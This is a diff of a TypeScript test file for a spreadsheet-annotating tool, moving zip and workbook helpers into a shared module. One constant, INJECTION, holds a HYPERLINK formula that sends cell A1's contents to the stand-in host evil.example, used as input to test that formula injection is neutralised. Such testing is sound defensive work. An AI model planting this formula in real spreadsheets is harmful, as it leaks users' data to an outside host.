@@ -3,9 +3,9 @@ import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from "no
 import { join } from "node:path";
 import ExcelJS from "exceljs";
 import type { Cell, CellValue, Comment, Workbook, Worksheet } from "exceljs";
-import yauzl from "yauzl";
 import { beforeAll, describe, expect, it } from "vitest";
 import { tempDir } from "../../../test/helpers/temp-dir.js";
+import { load, partsMatching, sheet } from "../../../test/helpers/xlsx.js";
 import { parsePeriod } from "../../domain/period/index.js";
 import type { Unit } from "../../workspace/schema.js";
 import { readWorkspace } from "../../workspace/read.js";
@@ -23,18 +23,6 @@ const INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
 function cat(): Unit {
   const found = config.units.find((unit) => unit.code === "CAT");
   if (found === undefined) throw new Error("No CAT in the sample");
-  return found;
-}
-
-async function load(buffer: Buffer): Promise<Workbook> {
-  const workbook = new ExcelJS.Workbook();
-  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
-  return workbook;
-}
-
-function sheet(workbook: Workbook, name: string): Worksheet {
-  const found = workbook.getWorksheet(name);
-  if (found === undefined) throw new Error(`No sheet ${name}`);
   return found;
 }
 
@@ -58,30 +46,6 @@ function allValues(workbook: Workbook): Map<string, CellValue> {
     });
   }
   return values;
-}
-
-/** The texts of a zip's entries whose names match. */
-function zipTexts(bytes: Buffer, pattern: RegExp): Promise<Map<string, string>> {
-  return new Promise((resolve, reject) => {
-    yauzl.fromBuffer(bytes, { lazyEntries: true }, (error, zip) => {
-      if (error || !zip) return reject(error ?? new Error("zip"));
-      const texts = new Map<string, string>();
-      zip.on("entry", (entry: yauzl.Entry) => {
-        if (!pattern.test(entry.fileName)) return zip.readEntry();
-        zip.openReadStream(entry, (streamError, stream) => {
-          if (streamError || !stream) return reject(streamError ?? new Error("entry"));
-          const chunks: Buffer[] = [];
-          stream.on("data", (chunk: Buffer) => chunks.push(chunk));
-          stream.on("end", () => {
-            texts.set(entry.fileName, Buffer.concat(chunks).toString("utf8"));
-            zip.readEntry();
-          });
-        });
-      });
-      zip.on("end", () => resolve(texts));
-      zip.readEntry();
-    });
-  });
 }
 
 function finding(partial: Partial<AnnotatedFinding> & Pick<AnnotatedFinding, "code" | "message">): AnnotatedFinding {
@@ -172,7 +136,7 @@ describe("annotateWorkbook: the results sheet", () => {
     expect(output.worksheets.map((ws) => ws.name)).toEqual(["Kết quả kiểm tra", ...input.worksheets.map((ws) => ws.name)]);
     expect(output.views[0]).toMatchObject({ activeTab: 0, firstSheet: 0 });
     // exceljs does not read tabSelected back with a frozen pane: look at the XML.
-    const sheets = [...(await zipTexts(annotated, /^xl\/worksheets\/sheet\d+\.xml$/)).values()];
+    const sheets = [...partsMatching(annotated, /^xl\/worksheets\/sheet\d+\.xml$/).values()];
     const selected = sheets.filter((xml) => xml.includes('tabSelected="1"'));
     expect(selected).toHaveLength(1);
     expect(selected[0]).toContain('<pane ySplit="2" topLeftCell="A3"');
@@ -219,7 +183,7 @@ describe("annotateWorkbook: the results sheet", () => {
     expect(results.getCell("H8").value).toBe("=1+1");
     expect(sheet(output, SHEETS.incidents).getCell("F2").type).toBe(ExcelJS.ValueType.String);
     // In the XML: only our HYPERLINK(\"#… links are formulas.
-    const xml = [...(await zipTexts(annotated, /^xl\/worksheets\/sheet\d+\.xml$/)).values()].join("");
+    const xml = [...(partsMatching(annotated, /^xl\/worksheets\/sheet\d+\.xml$/)).values()].join("");
     const formulas = [...xml.matchAll(/<f>([^<]*)<\/f>/g)].map((match) => match[1]);
     expect(formulas.filter((formula) => !formula?.startsWith("HYPERLINK(&quot;#&apos;"))).toEqual(["D2*2"]);
   });
@@ -293,7 +257,7 @@ describe("annotateWorkbook: the agency's sheets", () => {
   });
 
   it("sizes the notes to their text instead of exceljs's fixed 2 × 4 cell box", async () => {
-    const vml = [...(await zipTexts(annotated, /^xl\/drawings\/vmlDrawing\d+\.vml$/)).values()].join("");
+    const vml = [...(partsMatching(annotated, /^xl\/drawings\/vmlDrawing\d+\.vml$/)).values()].join("");
     const shapes = [...vml.matchAll(/<x:Anchor>([^<]*)<\/x:Anchor>[\s\S]*?<x:Row>(\d+)<\/x:Row>\s*<x:Column>(\d+)<\/x:Column>/g)];
     const d3 = shapes.find((match) => match[2] === "2" && match[3] === "3");
     expect(d3).toBeDefined();
@@ -328,9 +292,9 @@ describe("annotateWorkbook: bytes", () => {
     workbook.definedNames.add(`'${SHEETS.incidents}'!$A$1:$K$501`, "_xlnm._FilterDatabase");
     workbook.definedNames.add(`'${SHEETS.indicators}'!$D$2:$D$10`, "KyNay");
     const bytes = Buffer.from((await workbook.xlsx.writeBuffer()) as ArrayBuffer);
-    expect((await zipTexts(bytes, /^xl\/workbook\.xml$/)).get("xl/workbook.xml")).toContain("_xlnm._FilterDatabase");
+    expect((partsMatching(bytes, /^xl\/workbook\.xml$/)).get("xl/workbook.xml")).toContain("_xlnm._FilterDatabase");
     const output = await annotateWorkbook(bytes, FINDINGS, { lang: "vi" });
-    const xml = (await zipTexts(output, /^xl\/workbook\.xml$/)).get("xl/workbook.xml") ?? "";
+    const xml = (partsMatching(output, /^xl\/workbook\.xml$/)).get("xl/workbook.xml") ?? "";
     expect(xml).not.toContain("_xlnm._FilterDatabase");
     expect(xml).toContain(`<definedName name="KyNay">&apos;${SHEETS.indicators}&apos;!$D$2:$D$10</definedName>`);
   });
@@ -343,12 +307,12 @@ describe("annotateWorkbook: bytes", () => {
       { type: "whole", operator: "greaterThanOrEqual", formulae: [0], allowBlank: true },
     );
     const bytes = Buffer.from((await workbook.xlsx.writeBuffer()) as ArrayBuffer);
-    const input = [...(await zipTexts(bytes, /^xl\/worksheets\/sheet\d+\.xml$/)).values()].join("");
+    const input = [...(partsMatching(bytes, /^xl\/worksheets\/sheet\d+\.xml$/)).values()].join("");
     expect(input).toContain('sqref="L1:L1048576"');
     const started = Date.now();
     const output = await annotateWorkbook(bytes, FINDINGS, { lang: "vi" });
     expect(Date.now() - started).toBeLessThan(20_000);
-    const xml = [...(await zipTexts(output, /^xl\/worksheets\/sheet\d+\.xml$/)).values()].join("");
+    const xml = [...(partsMatching(output, /^xl\/worksheets\/sheet\d+\.xml$/)).values()].join("");
     expect(xml).not.toContain("<dataValidation ");
     expect((await load(output)).worksheets[0]?.name).toBe("Kết quả kiểm tra");
   });
